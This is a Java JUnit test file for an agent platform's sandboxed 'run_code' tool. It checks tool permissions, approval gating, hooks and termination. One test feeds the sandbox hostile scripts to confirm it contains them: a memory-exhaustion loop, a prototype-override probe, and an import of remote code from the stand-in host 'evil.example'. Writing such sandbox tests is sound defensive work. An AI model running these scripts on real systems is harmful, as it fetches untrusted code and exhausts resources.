package dev.threadline.executor.tools;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.threadline.avro.Permission;
import dev.threadline.avro.ToolEffect;
import dev.threadline.avro.ToolRequest;
import dev.threadline.config.Limits;
import dev.threadline.executor.Requests;
import dev.threadline.executor.tools.builtin.EchoTool;
import dev.threadline.executor.tools.builtin.RunCodeTool;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** The run_code tool: a script that calls the agent's allowed tools, and scripts that misbehave. */
class RunCodeToolTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  /** The agent as the thread froze it: what its tool requests carry. */
  private static final Map<String, Permission> FROZEN =
      Map.of(
          "echo", Permission.ALLOW,
          "upper", Permission.ALLOW,
          "payments", Permission.ASK,
          "broken", Permission.ALLOW,
          "wipe", Permission.DENY,
          "run_code", Permission.ALLOW);

  /** The agent as edited since the thread started: every tool allowed outright. */
  private static final String LIVE_AGENT =
      """
      {"name": "helper", "tools": [
        {"name": "echo", "permission": "allow"}, {"name": "upper", "permission": "allow"},
        {"name": "payments", "permission": "allow"}, {"name": "broken", "permission": "allow"},
        {"name": "wipe", "permission": "allow"}, {"name": "run_code", "permission": "allow"}]}
      """;

  private final Tool upper =
      Tools.of(
          "upper",
          "upper-cases text",
          (context, args) -> {
            context
                .state()
                .setValue("last", JSON.getNodeFactory().textNode(args.path("text").asText()));
            return args.path("text").asText().toUpperCase(java.util.Locale.ROOT);
          });
  private final java.util.concurrent.atomic.AtomicInteger paid =
      new java.util.concurrent.atomic.AtomicInteger();
  private final Tool payments =
      Tools.of(
          "payments",
          "moves money",
          (context, args) -> {
            paid.incrementAndGet();
            return "paid";
          });
  private final Tool wipe = Tools.of("wipe", "deletes everything", (context, args) -> "wiped");
  private final Tool broken =
      ThrowingTool.of("broken", new IllegalStateException("the ledger is closed"));
  private final java.util.concurrent.atomic.AtomicReference<JsonNode> summary =
      new java.util.concurrent.atomic.AtomicReference<>();
  private final java.util.concurrent.atomic.AtomicInteger summaryReads =
      new java.util.concurrent.atomic.AtomicInteger();
  private final ThreadReader reader =
      new ThreadReader() {
        @Override
        public Optional<JsonNode> read(String path) {
          summaryReads.incrementAndGet();
          return Optional.ofNullable(summary.get());
        }

        @Override
        public Optional<JsonNode> definition(String collection, String name) {
          try {
            return Optional.of(JSON.readTree(LIVE_AGENT));
          } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
          }
        }
      };
  private final ToolRunner runner =
      new ToolRunner(
          new ToolRegistry(
              withHookFunctions(
                  List.of(new EchoTool(), upper, payments, broken, wipe, new RunCodeTool()))),
          Limits.defaults(),
          request -> reader);

  private static List<Tool> withHookFunctions(List<Tool> tools) {
    List<Tool> all = new java.util.ArrayList<>(tools);
    all.addAll(dev.threadline.executor.tools.builtin.BuiltinHooks.all());
    return all;
  }

  private ToolRunner.Outcome runCode(String code) throws Exception {
    return runWith(JSON.createObjectNode().put("code", code).toString());
  }

  private ToolRunner.Outcome runWith(String args) {
    ToolRequest request = Requests.tool("t-1", "run_code", args, Requests.T0.plusSeconds(600));
    request.setToolPermissions(new java.util.HashMap<>(FROZEN));
    return runner.run(request, Requests.T0);
  }

  @Test
  void aScriptCallsTwoOfTheAgentsToolsAndReturnsTheirCombinedResult() throws Exception {
    ToolRunner.Outcome outcome =
        runCode(
            """
            const echoed = await tools.echo({ word: "hello" });
            const shouted: string = await tools.upper({ text: echoed.word });
            console.log("got", shouted);
            export default { echoed, shouted, both: `${echoed.word} ${shouted}` };
            """);
    assertThat(outcome.error()).isNull();
    JsonNode result = JSON.readTree(outcome.output());
    assertThat(result.path("status").asText()).isEqualTo("ok");
    assertThat(result.path("result").path("both").asText()).isEqualTo("hello HELLO");
    assertThat(result.path("logs").get(0).path("message").asText()).isEqualTo("got HELLO");
    List<String> kinds = outcome.effects().stream().map(ToolEffect::getKind).toList();
    assertThat(kinds)
        .as("each call recorded, the nested tool's own write kept")
        .containsExactly("emit", "set_value", "emit");
    JsonNode recorded = JSON.readTree(outcome.effects().get(0).getContent());
    assertThat(recorded.path("name").asText()).isEqualTo("code_tool_call");
    assertThat(recorded.path("data").path("name").asText()).isEqualTo("echo");
    assertThat(recorded.path("data").path("output").asText()).isEqualTo("{\"word\":\"hello\"}");
  }

  @Test
  void scriptsSeeTheToolsOfTheFrozenAgentNotOfItsLiveDefinition() throws Exception {
    JsonNode result = JSON.readTree(runCode("export default Object.keys(tools).sort();").output());
    assertThat(result.path("result").toString())
        .as("deny tools and run_code itself left out, whatever the agent says now")
        .isEqualTo("[\"broken\",\"echo\",\"payments\",\"upper\"]");
  }

  @Test
  void aToolThatNeedsApprovalIsRefusedInsideAScriptEvenWhenTheAgentWasEditedToAllowIt()
      throws Exception {
    ToolRunner.Outcome outcome =
        runCode(
            "let said = 'ran'; try { await tools.payments({ cents: 100 }); }"
                + " catch (e) { said = String(e.message); } export default said;");
    JsonNode result = JSON.readTree(outcome.output());
    assertThat(result.path("result").asText()).contains("payments needs approval");
    assertThat(paid).as("the payment never ran").hasValue(0);
    JsonNode recorded = JSON.readTree(outcome.effects().get(0).getContent());
    assertThat(recorded.path("data").path("error").asText()).startsWith("needs_approval");
  }

  @Test
  void aScriptsCallsGoThroughTheAgentsToolCallHooksAndTheirFailuresAreReported() throws Exception {
    ToolRequest request =
        Requests.tool(
            "t-1",
            "run_code",
            JSON.createObjectNode()
                .put(
                    "code",
                    "const r = await tools.echo({ to: 'ada@example.com' });"
                        + " try { await tools.broken({}); } catch (e) {}"
                        + " export default JSON.stringify(r);")
                .toString(),
            Requests.T0.plusSeconds(600));
    request.setToolPermissions(new java.util.HashMap<>(FROZEN));
    request.setHooks(
        Map.of("before_store_tool_result", "redact_emails", "after_tool_call_failure", "nobody"));
    Map<String, Object> execution = new java.util.concurrent.ConcurrentHashMap<>();
    List<dev.threadline.avro.HookFailure> failures =
        new java.util.concurrent.CopyOnWriteArrayList<>();
    var hooks = new dev.threadline.executor.hooks.ToolCallHooks(runner, Limits.defaults());

    ToolRunner.Outcome outcome =
        runner.run(
            request,
            Requests.T0,
            execution,
            hooks.forNestedCalls(() -> Requests.T0, execution, failures));

    assertThat(JSON.readTree(outcome.output()).path("result").asText())
        .as("the script got echo's result as the agent's before_store_tool_result left it")
        .contains("[email]")
        .doesNotContain("ada@example.com");
    assertThat(failures)
        .as("the failed nested call's after_tool_call_failure names a function nobody serves")
        .singleElement()
        .satisfies(f -> assertThat(f.getHook()).isEqualTo("after_tool_call_failure"));
  }

  @Test
  void aRequestWithoutPermissionsOffersTheScriptNoTools() {
    ToolRequest request =
        Requests.tool(
            "t-1",
            "run_code",
            "{\"code\": \"export default Object.keys(tools).length;\"}",
            Requests.T0.plusSeconds(600));
    assertThat(runner.run(request, Requests.T0).output()).contains("\"result\":0");
  }

  @Test
  void hostileScriptsEndWithTheirStatusAndTheExecutorServesTheNextCall() throws Exception {
    assertThat(
            JSON.readTree(
                    runCode(
                            "const a = []; while (true) a.push(new Array(1e5).fill(1)); export default 1;")
                        .output())
                .path("status")
                .asText())
        .isEqualTo("memory");
    assertThat(
            JSON.readTree(
                    runCode(
                            "Object.prototype.toString = () => 'owned'; export default typeof Java + typeof process;")
                        .output())
                .path("result")
                .asText())
        .isEqualTo("undefinedundefined");
    assertThat(
            JSON.readTree(
                    runCode("export default await import('https://evil.example/x.js');").output())
                .path("status")
                .asText())
        .isEqualTo("link_error");
    JsonNode after =
        JSON.readTree(runCode("export default await tools.echo({ ok: true });").output());
    assertThat(after.path("result").path("ok").asBoolean()).isTrue();
  }

  @Test
  void aFailingNestedToolRejectsItsPromiseWithItsError() throws Exception {
    JsonNode result =
        JSON.readTree(
            runCode(
                    "let said = 'no rejection';"
                        + " try { await tools.broken({}); } catch (e) { said = String(e.message); }"
                        + " export default said;")
                .output());
    assertThat(result.path("status").asText()).isEqualTo("ok");
    assertThat(result.path("result").asText()).contains("the ledger is closed");
  }

  @Test
  void codeIsTerminatedWhenTheTurnThatCalledItIsAborted() throws Exception {
    summary.set(JSON.readTree("{\"status\": \"running\", \"turns\": 3}"));
    var outcome =
        java.util.concurrent.CompletableFuture.supplyAsync(
            () -> {
              try {
                return runCode("for (;;) {} export default 1;");
              } catch (Exception e) {
                throw new IllegalStateException(e);
              }
            });
    long deadline = System.nanoTime() + java.util.concurrent.TimeUnit.SECONDS.toNanos(60);
    while (summaryReads.get() == 0 && System.nanoTime() < deadline) {
      Thread.onSpinWait();
    }
    summary.set(JSON.readTree("{\"status\": \"idle\", \"turns\": 3}"));
    JsonNode result =
        JSON.readTree(outcome.get(60, java.util.concurrent.TimeUnit.SECONDS).output());
    assertThat(result.path("status").asText()).isEqualTo("terminated");
    assertThat(result.path("error").path("message").asText()).contains("turn ended");
  }

  @Test
  void theArgumentsAreRunCodesWireFormOptionsIncluded() throws Exception {
    String args =
        """
        {"code": "import { rate } from 'rates'; import { twice } from './math.ts';\\n export function total(n: number) { return twice(n) * rate * scale; }",
         "modules": {"./math.ts": "export const twice = (x: number): number => x * 2;"},
         "imports": {"rates": {"rate": 3}},
         "globals": {"scale": 10},
         "execute": {"fn": "total", "args": [7]},
         "memoryLimitBytes": 67108864}
        """;
    ToolRunner.Outcome outcome = runWith(args);
    assertThat(outcome.error()).isNull();
    JsonNode result = JSON.readTree(outcome.output());
    assertThat(result.path("status").asText()).as("%s", result).isEqualTo("ok");
    assertThat(result.path("result").asInt()).isEqualTo(420);
    ToolRunner.Outcome bad =
        runWith("{\"code\": \"export default 1;\", \"modules\": {\"./x.ts\": 5}}");
    assertThat(bad.error().getMessage()).contains("modules['./x.ts'] must be the module's source");
  }
}
